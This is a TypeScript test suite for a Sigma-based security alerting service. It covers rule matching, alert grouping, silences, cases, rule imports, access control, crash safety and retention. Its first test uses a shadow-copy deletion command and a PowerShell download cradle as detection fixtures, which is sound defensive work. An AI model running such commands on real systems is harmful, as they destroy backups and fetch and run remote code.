import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { fileURLToPath } from 'node:url'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { packs, readRules } from '#engines/sigma/index.ts'
import { CLEARED, cleared, compileSigma, testWatch, type TestWatch } from './testing.ts'
import { starters } from '../core/starters.data.ts'

let s: TestWatch
let token: string
let sourceId: string
beforeAll(async () => {
  s = await testWatch()
  ;({ token, id: sourceId } = await s.source())
  await s.loop()
  await s.alerting(CLEARED)
}, 120_000)
afterAll(() => s?.close())

const alerts = () => s.t.sql<{ id: string; host: string; count: number; state: string; version: number }>('select id, host, count, state, version from watch.alert order by first_at, id')
const reset = () => s.t.sql('delete from watch.sample; delete from watch.alert')

test('the rules to begin with are read whole, observe, and each meets its own event and no other', async () => {
  const own = starters.length + readRules(packs).rules.length + readRules(packs).correlations.length
  expect(own).toBeGreaterThan(starters.length + 10)
  expect(await s.t.sql(`select 1 from watch.rule where state <> 'observe'`)).toHaveLength(1)
  expect(await s.t.sql('select count(*)::int as n, count(*) filter (where author = $1)::int as own from watch.rule', ['Bastida'])).toEqual([{ n: own, own }])
  const created = (more: object, os: 'windows' | 'linux') => ({ '@timestamp': '2026-11-25T08:00:00Z', ...(os === 'windows' ? { winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', provider_name: 'Microsoft-Windows-Sysmon', event_id: '1', event_data: more } } : { ...more }) })
  const events = [
    created({ Image: 'C:\\Windows\\System32\\vssadmin.exe', CommandLine: 'vssadmin.exe delete shadows /all /quiet' }, 'windows'),
    cleared(),
    { '@timestamp': '2026-11-25T08:00:00Z', winlog: { channel: 'Security', provider_name: 'Microsoft-Windows-Security-Auditing', event_id: '4732', event_data: { TargetSid: 'S-1-5-32-544' } } },
    created({ Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', CommandLine: "powershell -c (New-Object Net.WebClient).DownloadString('http://x')" }, 'windows'),
  ]
  const lines = Buffer.from(events.map((one) => `${JSON.stringify(one)}\n`).join(''))
  const rules = await s.t.sql<{ id: string; yaml: string; title: string }>('select id, yaml, title from watch.rule')
  const compiled = compileSigma(rules)
  const { pieces: [piece], stuck } = await compiled.match([lines])
  await compiled.close()
  expect([piece, stuck]).toMatchObject([{ lines: 4, broken: 0 }, []])
  const hits = piece!.hits.map(([line, id]) => [line, rules.find((one) => one.id === id)!.title])
  expect(hits).toEqual([[0, 'Shadow copies deleted'], [1, 'Windows event log cleared'], [2, 'Account added to the local administrators'], [3, 'PowerShell runs hidden words or a download']])
})

test('one cause is one card; lines are kept up to five, cut at four kilobytes', async () => {
  await reset()
  await s.bulk(token, [...Array.from({ length: 8 }, () => cleared()), { ...cleared('BIG'), padding: `${'à'.repeat(5000)}\u0000` }])
  await s.loop()
  await s.bulk(token, [cleared()])
  await s.loop()
  expect((await alerts()).map(({ host, count }) => ({ host, count })).toSorted((a, b) => b.count - a.count)).toEqual([{ host: 'srv-01', count: 9 }, { host: 'big', count: 1 }])
  const samples = await s.t.sql<{ n: number; longest: number; days: number }>(`select count(*)::int as n, max(octet_length(line))::int as longest, max(extract(epoch from until - at) / 86400)::int as days from watch.sample`)
  expect(samples).toEqual([{ n: 6, longest: expect.any(Number), days: 30 }])
  expect(samples[0]!.longest).toBeLessThanOrEqual(4096)
})

test('taken, closed with a reason, and a new one when it happens again', async () => {
  await reset()
  await s.bulk(token, [cleared()])
  await s.loop()
  const [one] = await alerts()
  expect((await s.coordinator('POST', `/api/watch/alerts/${one!.id}/take`, { version: 1 })).status).toBe(204)
  expect((await s.coordinator('POST', `/api/watch/alerts/${one!.id}/take`, { version: 1 })).status).toBe(409)
  expect((await s.coordinator('POST', `/api/watch/alerts/${one!.id}/close`, { version: 2, reason: 'benign', note: 'Manutenzione' })).status).toBe(204)
  await s.bulk(token, [cleared()])
  await s.loop()
  expect((await alerts()).map((row) => row.state).toSorted()).toEqual(['closed', 'open'])
})

test('a silence holds for its value, counts what it held back, and ends', async () => {
  await reset()
  await s.bulk(token, [cleared('backup')])
  await s.loop()
  const [one] = await alerts()
  const silence = (body: object) => s.coordinator('POST', `/api/watch/alerts/${one!.id}/suppress`, body)
  expect((await silence({ field: 'host.name', value: 'backup', reason: 'prova', days: 91 })).status).toBe(400)
  expect((await silence({ field: 'host.name', value: '', reason: 'prova', days: 9 })).status).toBe(400)
  const { json: { id } } = await silence({ field: 'host.name', value: 'backup', reason: 'Il salvataggio svuota il registro', days: 90 })
  await s.bulk(token, [cleared('backup'), cleared('backup'), cleared('web')])
  await s.loop()
  expect((await alerts()).map(({ host, count }) => ({ host, count })).toSorted((a, b) => (a.host < b.host ? -1 : 1))).toEqual([{ host: 'backup', count: 1 }, { host: 'web', count: 1 }])
  expect(await s.t.sql('select hits from watch.suppression')).toEqual([{ hits: 2 }])
  expect((await s.coordinator('DELETE', `/api/watch/suppressions/${id}`)).status).toBe(204)
  await s.bulk(token, [cleared('backup')])
  await s.loop()
  expect((await alerts()).find((row) => row.host === 'backup')!.count).toBe(2)
})

test('one action makes the case at the body of the alert, and asked again gives the same; what follows there is more serious', async () => {
  await reset()
  await s.bulk(token, [cleared()])
  await s.loop()
  const [one] = await alerts()
  const [first, second] = await Promise.all([1, 2].map(() => s.coordinator('POST', `/api/watch/alerts/${one!.id}/case`)))
  expect([first!.status, second!.json.caseId]).toEqual([201, first!.json.caseId])
  expect(await s.t.sql('select party_id, kind, title from cases."case" where id = $1', [first!.json.caseId])).toEqual([{ party_id: s.party.A, kind: 'main', title: 'Windows event log cleared' }])
  expect(await s.t.sql('select state, case_id from watch.alert')).toEqual([{ state: 'taken', case_id: first!.json.caseId }])
  await s.bulk(token, [cleared('next')])
  await s.loop()
  expect(await s.t.sql(`select severity from watch.alert where host = 'next'`)).toEqual([{ severity: 'critical' }])
  const { json } = await s.coordinator('GET', `/api/watch/alerts/${one!.id}`)
  expect([json.samples.length, json.why.map((why: { code: string }) => why.code)]).toEqual([1, ['rule', 'asset']])
  expect(await s.t.sql(`select count(*)::int as n from audit.entry where action = 'watch.alert'`)).toEqual([{ n: 1 }])
})

test('files of rules: new ones observe, the same again changes nothing, what cannot be kept is said by file', async () => {
  const rule = (id: string, level = 'low') => `title: Prova ${id}\nid: ${id}\nlogsource:\n  product: linux\ndetection:\n  selection:\n    a: b\n  condition: selection\nlevel: ${level}\n`
  const [a, b] = ['11111111-1111-4111-8111-111111111111', '22222222-2222-4222-8222-222222222222']
  const bring = async (text: string) => {
    const { json: { importId, ...said } } = await s.coordinator('POST', '/api/watch/rules', { files: [{ path: 'a.yml', text }], licence: 'DRL-1.1' })
    if (said.added + said.changed > 0) expect((await s.coordinator('POST', `/api/watch/imports/${importId}/apply`, { expected: said.added + said.changed })).status).toBe(200)
    return said
  }
  const correlation = `title: Molte\nid: 33333333-3333-4333-8333-333333333333\ncorrelation:\n  type: event_count\n  rules:\n    - ${a}\n  group-by:\n    - host\n  timespan: 5m\n  condition:\n    gte: 10\n`
  const broken = 'title: Rotta\nlogsource:\n  product: linux\ndetection:\n  condition: selection\n'
  expect(await bring(`${rule(a)}---\n${rule(b)}`)).toEqual({ added: 2, changed: 0, gone: 0, same: 0, failing: 0, refused: [] })
  expect(await bring(`${rule(a)}---\n${rule(b, 'high')}`)).toEqual({ added: 0, changed: 1, gone: 0, same: 1, failing: 0, refused: [] })
  const last = await bring(`${broken}---\n${rule(a)}`)
  expect([last.same, last.refused.length, last.refused[0].path, last.refused[0].title]).toEqual([1, 1, 'a.yml', 'Rotta'])
  // A part that stood by itself becomes one by the proposal, and comes with what stands on it.
  expect(await bring(`${rule(a)}---\n${correlation}`)).toMatchObject({ added: 1, changed: 1, refused: [] })
  expect(await s.t.sql('select silent from watch.rule where id = $1', [a])).toEqual([{ silent: true }])
  expect(await s.t.sql('select state, level, licence, yaml from watch.rule where id = $1', [b])).toEqual([{ state: 'observe', level: 'high', licence: 'DRL-1.1', yaml: rule(b, 'high') }])
})

test('a body reads its own sources and alerts and no other’s; lines stay with the centre', async () => {
  await s.person('Ada', 'admin', s.party.A)
  const ada = await s.signIn('ada@prova.example')
  const own = await ada('GET', `/api/watch/bodies/${s.party.A}`)
  expect([own.status, own.json.sources.length, own.json.alerts.length > 0]).toEqual([200, 1, true])
  expect(JSON.stringify(own.json)).not.toContain('@timestamp')
  expect((await ada('GET', `/api/watch/bodies/${s.party.B}`)).status).toBe(404)
  expect((await ada('GET', '/api/watch/alerts')).status).toBe(403)
})

test('killed with -9 between the lines and the end, over and over: no alert is lost, none is counted twice', { timeout: 120_000 }, async () => {
  await reset()
  const child = fileURLToPath(new URL('killed.child.ts', import.meta.url))
  const received = async () => (await s.t.sql<{ received: number }>('select coalesce(sum(received), 0)::int as received from watch.day where source_id = $1', [sourceId]))[0]!.received
  const before = await received()
  const seen: number[] = []
  for (let i = 0; i < 30; i++) await s.bulk(token, Array.from({ length: 40 }, (_, n) => cleared(`host-${n % 4}`)))
  for (let round = 0; round < 4; round++) {
    const running = spawn(process.execPath, [child, JSON.stringify(s.t.connect.app), s.centre.watch.spoolFolder], { stdio: ['ignore', 'pipe', 'inherit'] })
    await once(running.stdout, 'data')
    // The first before it has read anything; the others a little after another piece was.
    const until = performance.now() + 20_000
    if (round > 0) while (await received() - before <= seen.at(-1)! && performance.now() < until) await new Promise((resolve) => setTimeout(resolve, 5))
    await new Promise((resolve) => setTimeout(resolve, 30 - 9 * round))
    running.kill('SIGKILL')
    await once(running, 'close')
    seen.push(await received() - before)
  }
  expect(seen.some((n) => n > 0 && n < 1200), `nobody was killed in the middle: ${seen.join()}`).toBe(true)
  await s.loop()
  expect((await alerts()).map(({ host, count }) => ({ host, count })).toSorted((a, b) => (a.host < b.host ? -1 : 1))).toEqual([0, 1, 2, 3].map((n) => ({ host: `host-${n}`, count: 300 })))
  expect(await received() - before).toBe(1200)
})

test('lines go when the days of their source are over, their alert stays while it is open', async () => {
  await reset()
  await s.bulk(token, [cleared(), cleared('other')])
  await s.loop()
  s.advance(29 * 86_400_000)
  await s.centre.retention.service.purge('command')
  expect(await s.t.sql('select 1 from watch.sample')).toHaveLength(2)
  s.advance(2 * 86_400_000)
  await s.centre.retention.service.purge('command')
  expect(await s.t.sql('select 1 from watch.sample')).toEqual([])
  expect(await alerts()).toHaveLength(2)
})
